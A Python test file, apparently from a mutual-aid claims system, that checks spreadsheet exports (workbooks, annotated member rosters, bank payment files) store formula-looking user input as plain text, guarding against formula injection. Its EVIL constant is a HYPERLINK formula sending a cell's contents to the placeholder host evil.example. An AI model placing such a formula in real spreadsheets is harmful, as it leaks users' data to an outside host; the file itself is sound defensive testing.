"""Formula injection: text from users is written as text in every workbook we hand out."""

import io
from datetime import date

from openpyxl import Workbook, load_workbook

from huzhu.claims.tests.journeys import approved_claim, on, paid_contract
from huzhu.core import xlsx
from huzhu.members.checks import check_roster
from huzhu.members.models import Member
from huzhu.members.tests.rosters import csv_bytes, person
from huzhu.payments import actions as payments

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"点此核对")'


def test_save_and_cells_store_formula_looking_values_as_text():
    book = Workbook()
    book.active.append([EVIL, "=1+1", "正常", 3])
    sheet = load_workbook(io.BytesIO(xlsx.save(book))).active
    assert [c.data_type for c in sheet[1]] == ["s", "s", "s", "n"]
    assert sheet["A1"].value == EVIL
    stream = Workbook(write_only=True)
    rows = stream.create_sheet("x")
    rows.append(xlsx.cells(rows, [EVIL, "正常"]))
    buffer = io.BytesIO()
    stream.save(buffer)
    assert [c.data_type for c in load_workbook(buffer).active[1]] == ["s", "s"]


def test_an_uploaded_formula_comes_back_as_text_in_the_annotated_roster():
    row = person(1)
    row[0] = EVIL.replace(",", "，")  # the CSV's own separator aside
    report, _, _ = check_roster(csv_bytes([row, person(2, shares=9)]), effective=date(2025, 3, 1))
    assert report.errors and report.annotated
    cell = load_workbook(io.BytesIO(report.annotated)).worksheets[0]["A2"]
    assert (cell.value, cell.data_type) == (row[0], "s")


def test_a_payee_name_that_looks_like_a_formula_is_text_in_the_bank_file(tree, people, settings):
    paid_contract(settings, tree.unit_a, people.registrar, "2022-07-08", shares=1)
    on(settings, "2023-07-10")
    claim = approved_claim(Member.objects.get(), people)
    batch = payments.create_batch([claim], actor=people.cashier)
    batch.payments.update(payee_name="=1+1")
    batch = payments.approve_batch(batch, actor=people.approver)
    sheet = load_workbook(io.BytesIO(payments.export_batch(batch, actor=people.cashier))).active
    assert (sheet["B2"].value, sheet["B2"].data_type) == ("=1+1", "s")
